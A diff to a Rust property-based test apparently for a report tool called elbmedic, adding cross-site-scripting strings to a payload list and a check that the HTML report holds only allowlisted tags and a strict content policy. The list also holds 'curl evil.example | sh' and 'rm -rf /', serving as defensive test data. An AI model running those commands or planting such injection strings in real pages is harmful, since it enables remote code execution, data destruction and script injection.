@@ -31,7 +31,140 @@ const PAYLOADS: &[&str] = &[
     "$ curl evil.example | sh",
     "# FIX\n$ rm -rf /",
     "é日本🙂 $HOME ${PATH} * ? [a] ~ !",
+    "<script>alert(1)</script>",
+    "\" onmouseover=\"alert(1)\" x=\"",
+    "' onload='alert(1)",
+    "</pre></svg><img src=https://evil.example/x.png><a href=\"https://evil.example\">fix</a>",
+    "<style>@import url(https://evil.example/x.css)</style>",
 ];
+
+/// Every tag elbmedic's HTML report writes, and every attribute: anything else in a page is
+/// markup that came from data.
+const HTML_TAGS: &[&str] = &[
+    "!doctype",
+    "html",
+    "head",
+    "meta",
+    "title",
+    "style",
+    "body",
+    "main",
+    "article",
+    "header",
+    "footer",
+    "section",
+    "div",
+    "p",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "dl",
+    "dt",
+    "dd",
+    "ul",
+    "li",
+    "span",
+    "strong",
+    "code",
+    "pre",
+    "details",
+    "summary",
+    "figure",
+    "figcaption",
+    "svg",
+    "g",
+    "rect",
+    "line",
+    "polygon",
+    "polyline",
+    "circle",
+    "text",
+];
+const HTML_ATTRIBUTES: &[&str] = &[
+    "lang",
+    "charset",
+    "http-equiv",
+    "content",
+    "name",
+    "class",
+    "id",
+    "open",
+    "width",
+    "height",
+    "viewbox",
+    "role",
+    "aria-label",
+    "aria-hidden",
+    "data-column",
+    "x",
+    "y",
+    "x1",
+    "x2",
+    "y1",
+    "y2",
+    "rx",
+    "r",
+    "cx",
+    "cy",
+    "points",
+    "text-anchor",
+    "html",
+];
+
+/// The page holds only elbmedic's own tags and attributes, every attribute value quoted and
+/// closed, and its policy forbids scripts and fetches.
+fn html_is_inert(page: &str) -> Result<(), TestCaseError> {
+    prop_assert!(
+        page.contains("content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\""),
+        "no Content-Security-Policy"
+    );
+    let mut rest = page;
+    while let Some(at) = rest.find('<') {
+        let after = &rest[at + 1..];
+        let end = after
+            .find(|c: char| c.is_whitespace() || c == '>')
+            .unwrap_or(after.len());
+        let name = after[..end].trim_start_matches('/').trim_end_matches('/');
+        prop_assert!(
+            HTML_TAGS.contains(&name.to_ascii_lowercase().as_str()),
+            "tag {:?} is not elbmedic's: {:?}",
+            name,
+            &after[..after.len().min(120)]
+        );
+        // Its attributes: name="value", values without quotes inside.
+        let mut tail = &after[end..];
+        loop {
+            tail = tail.trim_start();
+            if let Some(next) = tail.strip_prefix('>') {
+                tail = next;
+                break;
+            }
+            if let Some(next) = tail.strip_prefix("/>") {
+                tail = next;
+                break;
+            }
+            let name_end = tail
+                .find(|c: char| c == '=' || c.is_whitespace() || c == '>')
+                .unwrap_or(tail.len());
+            let attribute = tail[..name_end].to_ascii_lowercase();
+            prop_assert!(
+                HTML_ATTRIBUTES.contains(&attribute.as_str()),
+                "attribute {:?} is not elbmedic's: {:?}",
+                attribute,
+                &tail[..tail.len().min(120)]
+            );
+            tail = &tail[name_end..];
+            if let Some(value) = tail.strip_prefix("=\"") {
+                let close = value.find('"');
+                prop_assert!(close.is_some(), "unclosed attribute value");
+                tail = &value[close.unwrap() + 1..];
+            }
+        }
+        rest = tail;
+    }
+    Ok(())
+}
 
 /// Replaces or extends string leaves chosen by `seed` with payloads.
 fn inject(value: &mut Value, seed: &mut u64, rate: u64) {
@@ -107,6 +240,7 @@ fn check(report: &Report) -> Result<(), TestCaseError> {
             prop_assert_eq!(split.unwrap(), intended, "{}", line);
         }
     }
+    html_is_inert(&report.render(Format::Html))?;
     let own: Vec<&str> = scripts.iter().flat_map(|s| s.lines()).collect();
     for format in [Format::Text, Format::Markdown] {
         let rendered = report.render(format);
